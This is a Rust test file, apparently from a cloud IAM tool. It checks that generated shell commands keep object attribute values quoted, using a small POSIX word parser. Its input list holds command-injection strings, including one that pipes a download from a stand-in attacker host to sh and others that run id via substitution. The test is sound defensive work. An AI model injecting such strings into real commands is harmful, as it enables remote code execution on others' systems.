//! Whatever is in an object: no part of it ends as something else in a command.

use cloudgrant_core::{ObjectId, Ownership, Scope};
use serde_json::json;

use super::*;
use crate::config::AccountId;

/// The words of a POSIX shell's line; nothing where something else than words is in it.
fn words(line: &str) -> Option<Vec<String>> {
    let (mut words, mut word, mut chars) = (Vec::new(), None::<String>, line.chars());
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let open = word.get_or_insert_default();
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => open.push(c),
                    }
                }
            }
            '\\' => word.get_or_insert_default().push(chars.next()?),
            ' ' => words.extend(word.take()),
            '\n' | '$' | '`' | '"' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '*' | '?' | '#' | '~' => {
                return None;
            }
            c => word.get_or_insert_default().push(c),
        }
    }
    words.extend(word);
    Some(words)
}

#[test]
fn whatever_is_in_an_object_stays_one_word_of_its_command() {
    let stack = cloudgrant_core::Stack::parse("tests").expect("a stack");
    let account = AccountId::parse("111122223333").expect("an account");
    let names = Names::new(stack, "aws", account, Some("a.example/id"));
    for odd in ["x; curl evil.example|sh #", "$(id)", "`id`", "it's", "a b", "a\nb", "*", "\"", "&", "~", "\\"] {
        for id in [
            managed_policy::KIND,
            role::KIND,
            attachment::KIND,
            pod_identity_association::KIND,
            bucket_statement::KIND,
            key_statement::KIND,
        ] {
            let attributes = json!({
                "path": odd, "document": {"a": odd}, "trust": {"a": odd}, "tags": {"key": odd}, "boundary": odd,
                "role": odd, "policy": odd, "bucket": odd, "account": odd, "key": odd, "statement": {"Sid": odd}, "cluster": odd,
                "namespace": odd, "service_account": odd,
            });
            let object = Object {
                id: ObjectId::new(id, odd),
                scope: Scope::Global,
                attributes: attributes.into(),
                references: Vec::new(),
                depends_on: Vec::new(),
                because: Vec::new(),
                ownership: Ownership::Exclusive,
                touches: Vec::new(),
                handoff: None,
            };
            let commands = kind(id).expect("a kind").commands(&object, &names);
            assert!(!commands.is_empty(), "{id:?}");
            for command in commands {
                if command.starts_with("# ") {
                    assert!(!command.contains('\n'), "{command}");
                    continue;
                }
                let words = words(&command).unwrap_or_else(|| panic!("{command}"));
                assert!(words.iter().any(|word| word == odd), "{command}: {words:?}");
            }
        }
    }
}
